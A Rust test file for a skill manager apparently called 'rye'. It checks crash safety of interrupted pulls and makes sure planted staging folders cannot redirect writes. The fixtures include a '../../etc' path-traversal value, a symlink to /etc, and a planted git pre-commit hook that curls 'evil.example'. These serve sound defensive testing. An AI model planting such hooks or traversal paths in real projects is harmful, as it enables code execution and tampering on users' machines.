//! `kill -9` during `pull` and `update` of a skill: the result is the old state or the new one, or the next command
//! makes it so.

use std::fs;
use std::time::Instant;

use super::{commit, here, lock, skill, source, world, write};
use crate::support::Sandbox;
use crate::support::killing::{killed, points, rye};

/// Everything that a pull writes.
fn state(sandbox: &Sandbox) -> (Vec<u8>, Vec<u8>, String) {
    let read = |path: std::path::PathBuf| fs::read(path).unwrap_or_default();
    (read(here(sandbox, "SKILL.md")), read(sandbox.project().join(".ai/skills/pdf.sig")), lock(sandbox))
}

#[test]
fn a_killed_pull_of_a_skill_is_mended_by_sync_and_completed_by_the_next() {
    let sandbox = world();
    let source = source(&sandbox, "@main");
    let args = ["pull", source.as_str(), "--yes", "-q"];
    sandbox.rye(&args).succeeds();
    write(&sandbox, "skills/pdf/SKILL.md", &skill("Number 0."));
    commit(&sandbox, "0");
    let begun = Instant::now();
    assert!(rye(&sandbox, &args).status().unwrap().success());
    let whole = begun.elapsed();
    for point in 1..=points() {
        write(&sandbox, "skills/pdf/SKILL.md", &skill(&format!("Number {point}.")));
        commit(&sandbox, &point.to_string());
        let old = state(&sandbox);
        killed(&sandbox, &args, whole, point);
        let left = state(&sandbox);
        assert!(left.2 == old.2 || left.0 != old.0, "the lock comes last");
        let seen = sandbox.rye(&["sync"]).transcript();
        assert!(seen.ends_with("[exit 0]\n"), "{point}: {seen}");
        let mended = state(&sandbox);
        assert!(mended == old || mended.2 != old.2, "{point}: {seen}");
        let seen = sandbox.rye(&["sync", "--check"]).transcript();
        assert!(seen.ends_with("[exit 0]\n"), "{point}: {seen}");
        sandbox.rye(&["verify", "-q"]).succeeds();
        sandbox.rye(&args).succeeds();
        let new = state(&sandbox);
        assert_eq!(new.0, skill(&format!("Number {point}.")).as_bytes());
        let left: Vec<String> = fs::read_dir(sandbox.project().join(".claude"))
            .unwrap()
            .map(|entry| entry.unwrap().file_name().into_string().unwrap())
            .collect();
        assert_eq!(left, ["skills"], "nothing is left behind");
    }
}

/// A staging folder of a process that is gone, as a kill between the exchange and the lock leaves it.
fn left_behind(sandbox: &Sandbox, journal: &str) -> std::path::PathBuf {
    let staging = sandbox.project().join(".claude/.rye-tmp-skill-999999999-0");
    fs::create_dir_all(&staging).unwrap();
    fs::write(staging.join("journal"), journal).unwrap();
    staging
}

#[test]
fn an_exchange_without_its_lock_goes_back() {
    let sandbox = world();
    super::pull(&sandbox, "@main");
    let old = state(&sandbox);
    let digest = |sandbox: &Sandbox| {
        let lock = lock(sandbox);
        let line = lock.lines().find(|line| line.starts_with("digest = ")).unwrap();
        line.split('"').nth(1).unwrap().to_owned()
    };
    let before = digest(&sandbox);
    let copy = sandbox.path("copy");
    assert!(std::process::Command::new("cp").arg("-a").arg(here(&sandbox, "")).arg(&copy).status().unwrap().success());
    write(&sandbox, "skills/pdf/SKILL.md", &skill("Newer."));
    commit(&sandbox, "newer");
    super::pull(&sandbox, "@main");
    let after = digest(&sandbox);
    let new = state(&sandbox);
    // Folder and signature are new, the lock is old.
    let journal =
        format!("{{\"id\":\"pdf\",\"folder\":\".claude/skills/pdf\",\"before\":\"{before}\",\"after\":\"{after}\"}}");
    let staging = left_behind(&sandbox, &journal);
    fs::rename(&copy, staging.join("folder")).unwrap();
    fs::write(staging.join("signature"), &old.1).unwrap();
    fs::write(sandbox.project().join("rye.lock"), &old.2).unwrap();
    sandbox.rye(&["sync", "-q"]).succeeds();
    assert_eq!(state(&sandbox), old);
    assert!(!staging.exists());
    super::pull(&sandbox, "@main");
    assert_eq!(state(&sandbox), new);
}

#[test]
fn a_planted_staging_folder_changes_nothing_that_the_lock_does_not_say() {
    let sandbox = world();
    super::pull(&sandbox, "@main");
    let old = state(&sandbox);
    let (zero, one) = ("0".repeat(64), "1".repeat(64));
    for journal in [
        format!("{{\"id\":\"pdf\",\"folder\":\".claude/skills/pdf\",\"before\":\"{zero}\",\"after\":\"{one}\"}}"),
        format!("{{\"id\":\"pdf\",\"folder\":\"../../etc\",\"before\":null,\"after\":\"{one}\"}}"),
        "not a journal".to_owned(),
    ] {
        let staging = left_behind(&sandbox, &journal);
        fs::create_dir_all(staging.join("folder")).unwrap();
        fs::write(staging.join("folder/SKILL.md"), "evil").unwrap();
        fs::write(staging.join("signature"), "evil").unwrap();
        sandbox.rye(&["sync"]).transcript();
        assert_eq!(state(&sandbox), old, "{journal}");
        drop(fs::remove_dir_all(&staging));
    }
}

#[test]
fn a_planted_staging_folder_is_followed_to_no_other_place() {
    let sandbox = world();
    super::pull(&sandbox, "@main");
    drop(fs::remove_dir_all(sandbox.project().join(".git/hooks")));
    for folder in [".git/hooks", "src/evil", ".agents/skills/evil", ".claude/skills/Evil", ".claude/evil"] {
        let journal = format!("{{\"id\":\"evil\",\"folder\":\"{folder}\",\"before\":null,\"after\":null}}");
        let staging = left_behind(&sandbox, &journal);
        fs::create_dir_all(staging.join("folder-old")).unwrap();
        fs::write(staging.join("folder-old/pre-commit"), "#!/bin/sh\ncurl https://evil.example\n").unwrap();
        for args in [&["sync", "--check"][..], &["sync"]] {
            sandbox.rye(args).succeeds();
            assert!(!sandbox.project().join(folder).exists(), "{folder}");
        }
        fs::remove_dir_all(&staging).unwrap();
    }
    // A check changes nothing.
    let staging = left_behind(&sandbox, "not a journal");
    sandbox.rye(&["sync", "--check"]).succeeds();
    assert!(staging.exists());
    sandbox.rye(&["sync"]).succeeds();
    assert!(!staging.exists());
    std::os::unix::fs::symlink("/etc", &staging).unwrap();
    sandbox.rye(&["sync"]).succeeds();
}
